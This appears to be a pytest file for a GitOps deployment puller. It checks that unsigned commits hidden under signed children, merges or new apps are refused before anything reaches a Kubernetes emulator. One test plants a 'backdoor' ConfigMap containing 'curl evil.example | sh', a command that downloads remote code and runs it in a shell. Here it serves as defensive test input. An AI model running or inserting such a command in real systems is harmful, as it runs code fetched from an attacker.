"""The signature chain from the puller's own verified frontier (DESIGN.md "Signature chain").

Real git, real gpg, a real signed ledger and the Kubernetes API emulator. Each attack is
tried for real: what a ledger entry claims (``previous``) never narrows the check.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml

from bot.config import ConfigError
from bot.deploy.ledger import Ledger
from bot.gitops import Git
from bot.puller.frontier import StateFrontierStore
from bot.puller.history import HistoryStore
from tests import gpgkit
from tests.pullerkit import Keys, World, manifests


def _greeting(w: World) -> str | None:
    cm = w.live("ConfigMap", "web-config")
    return cm["data"]["greeting"] if cm else None


def _deploy_anchor(w: World):
    """The puller deploys the anchor commit itself: a frontier exists from here on."""
    w.record(w.anchor)
    agent = w.agent()
    assert agent.run_cycle() is True
    assert _greeting(w) == "hello"
    return agent


def _frontier(w: World) -> list[str]:
    return StateFrontierStore(HistoryStore(w.data_dir / "puller.db")).load(str(w.origin))


def test_a_refused_unsigned_commit_stays_refused_under_its_signed_child(w: World):
    agent = _deploy_anchor(w)
    unsigned = w.commit(manifests(greeting="sneaky"), "unsigned", signed=False)
    w.record(unsigned)
    assert agent.run_cycle() is False
    assert f"{unsigned[:12]} is unsigned" in agent.status("web")["message"]

    # The child is signed and changes only the image; X's ConfigMap rides along in it.
    child = w.commit(manifests(greeting="sneaky", image="nginx:1.28"), "signed child")
    w.record(child)
    assert Ledger(Git(w.origin)).read("web").previous == unsigned  # the claimed range: child
    w.emu.reset_calls()

    assert agent.run_cycle() is False

    assert w.emu.write_calls() == 0
    assert _greeting(w) == "hello"
    status = agent.status("web")
    assert status["phase"] == "Held" and status["desired_revision"] == child
    assert f"{unsigned[:12]} is unsigned" in status["message"]
    assert "since the verified frontier" in status["message"]
    assert _frontier(w) == [w.anchor]


def test_an_unsigned_push_that_creates_an_app_is_refused_under_a_signed_commit(w: World):
    agent = _deploy_anchor(w)
    config = yaml.safe_load((w.origin / ".sluice.yaml").read_text())
    config["apps"].append({"name": "web2", "path": "apps/web2", "namespace": "web2"})
    backdoor = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "backdoor", "namespace": "web2"},
        "data": {"run": "curl evil.example | sh"},
    }
    unsigned = w.commit(
        {
            ".sluice.yaml": yaml.safe_dump(config),
            "apps/web2/cm.yaml": yaml.safe_dump(backdoor),
            "apps/web2/ns.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: {name: web2}\n",
        },
        "add web2 (direct push, unsigned)",
        signed=False,
    )
    signed = w.commit({"README.md": "docs\n"}, "signed on top")
    w.record(signed, app="web2")
    assert Ledger(Git(w.origin)).read("web2").previous is None  # a first entry
    w.emu.reset_calls()

    assert agent.run_cycle() is False

    assert w.emu.write_calls() == 0
    assert w.emu.get_object("v1", "ConfigMap", "backdoor", "web2") is None
    status = agent.status("web2")
    assert status["phase"] == "Held"
    assert f"{unsigned[:12]} is unsigned" in status["message"]


def test_an_entry_whose_previous_is_not_in_the_repository_deploys_when_the_chain_verifies(
    w: World,
):
    # A signed commit on a branch that is later deleted: the ledger's ``previous`` for the
    # next entry names it, and a puller that never fetched it cannot find it.
    gpgkit.git(w.origin, "checkout", "-q", "-b", "gone")
    lost = w.commit(manifests(greeting="lost"), "on a branch that goes away")
    gpgkit.git(w.origin, "checkout", "-q", "main")
    w.record(lost)
    gpgkit.git(w.origin, "branch", "-q", "-D", "gone")
    head = w.commit(manifests(greeting="current"), "signed on main")
    w.record(head)
    assert Ledger(Git(w.origin)).read("web").previous == lost

    agent = w.agent()
    assert agent.run_cycle() is True

    mirror = next((w.data_dir / "mirrors").iterdir())
    assert gpgkit.git(mirror, "cat-file", "-t", head) == "commit"
    with pytest.raises(Exception, match="could not get object info|Not a valid object"):
        gpgkit.git(mirror, "cat-file", "-t", lost)
    assert _greeting(w) == "current"
    assert agent.status("web")["phase"] == "Synced"
    assert _frontier(w) == [head]


def test_commits_before_the_trust_anchor_are_not_checked(w: World):
    unsigned = w.commit(manifests(greeting="old"), "before signing began", signed=False)
    signed = w.commit(manifests(greeting="signed"), "first signed commit")
    w.record(signed)

    strict = w.agent()  # anchored at the first commit: the unsigned one is in the chain
    assert strict.run_cycle() is False
    assert f"{unsigned[:12]} is unsigned" in strict.status("web")["message"]

    shutil.rmtree(w.data_dir)
    trusting = w.agent(trust_anchor=unsigned)  # the operator trusts history up to it
    assert trusting.run_cycle() is True
    assert _greeting(w) == "signed"


def test_a_missing_or_invalid_trust_anchor_is_a_clear_error(w: World):
    with pytest.raises(ConfigError, match=r"^puller\.yaml: trust_anchor: is required"):
        w.config(trust_anchor=None)
    for bad in ("main", w.anchor[:12], "HEAD~1", 1234):
        with pytest.raises(ConfigError, match=r"trust_anchor: .* is not a full commit SHA"):
            w.config(trust_anchor=bad)

    w.record(w.anchor)
    absent = w.agent(trust_anchor="0" * 40)
    assert absent.run_cycle() is False
    expected = f"trust_anchor {'0' * 12} (puller config) is not a commit in the repository"
    assert expected in absent.status("web")["message"]
    assert any(expected in problem for problem in absent.readiness())
    assert w.emu.write_calls() == 0

    # An anchor the puller saw on main, then main is rewritten without it.
    rewritten = w.commit({"x.txt": "x"}, "later rewritten away")
    rewound = w.agent(trust_anchor=rewritten)
    assert rewound.run_cycle() is True
    gpgkit.git(w.origin, "reset", "-q", "--hard", w.anchor)
    assert rewound.run_cycle() is False
    expected = f"trust_anchor {rewritten[:12]} (puller config) is not on main ({w.anchor[:12]})"
    assert expected in rewound.status("web")["message"]


def test_the_frontier_survives_a_restart(w: World, keys: Keys, tmp_path: Path):
    first = w.commit(manifests(greeting="v1"), "v1 by dev")
    w.record(first)
    assert w.agent().run_cycle() is True
    assert _frontier(w) == [first]

    # The operator rotates keys: dev is no longer trusted, a new maintainer signs from now on.
    rotated = tmp_path / "rotated-keys"
    rotated.mkdir()
    (rotated / "new.asc").write_text(gpgkit.export_public(keys.home, keys.mallory))
    second = gpgkit.commit(
        w.origin,
        "v2 by the new maintainer",
        files=manifests(greeting="v2"),
        config=gpgkit.gpg_signing_config(keys.home, keys.mallory),
    )
    w.record(second)

    # A new process on the same data dir: ``first`` was verified, only ``second`` is checked.
    restarted = w.agent(trusted_keys=str(rotated))
    assert restarted.run_cycle() is True
    assert _greeting(w) == "v2"
    assert _frontier(w) == [second]

    # Without the stored frontier the same check walks from the anchor and meets ``first``.
    shutil.rmtree(w.data_dir)
    forgetful = w.agent(trusted_keys=str(rotated))
    assert forgetful.run_cycle() is False
    assert f"{first[:12]} is untrusted" in forgetful.status("web")["message"]


def _merge(w: World, branch: str, message: str) -> str:
    gpgkit.git(w.origin, "-c", "commit.gpgsign=false", "merge", "-q", "--no-ff", "-m",
               message, branch)  # fmt: skip
    return gpgkit.git(w.origin, "rev-parse", "HEAD")


def test_an_unsigned_clean_merge_deploys_only_if_every_side_commit_is_signed(w: World):
    agent = _deploy_anchor(w)
    gpgkit.git(w.origin, "checkout", "-q", "-b", "feature")
    w.commit({"apps/web/configmap.yaml": _configmap("from-feature")}, "feature, signed")
    gpgkit.git(w.origin, "checkout", "-q", "main")
    w.commit({"README.md": "main moved\n"}, "main, signed")
    merge = _merge(w, "feature", "Merge feature")
    w.record(merge)

    assert agent.run_cycle() is True
    assert _greeting(w) == "from-feature"

    gpgkit.git(w.origin, "checkout", "-q", "-b", "sneaky")
    hidden = w.commit({"apps/web/configmap.yaml": _configmap("hidden")}, "side", signed=False)
    w.commit({"apps/web/notes.txt": "cover\n"}, "signed cover on the side")
    gpgkit.git(w.origin, "checkout", "-q", "main")
    w.commit({"README.md": "main moved again\n"}, "main, signed")
    merge2 = _merge(w, "sneaky", "Merge sneaky")
    w.record(merge2)

    assert agent.run_cycle() is False
    assert f"{hidden[:12]} is unsigned" in agent.status("web")["message"]
    assert _greeting(w) == "from-feature"


def _configmap(greeting: str) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": "web-config"},
            "data": {"greeting": greeting},
        }
    )
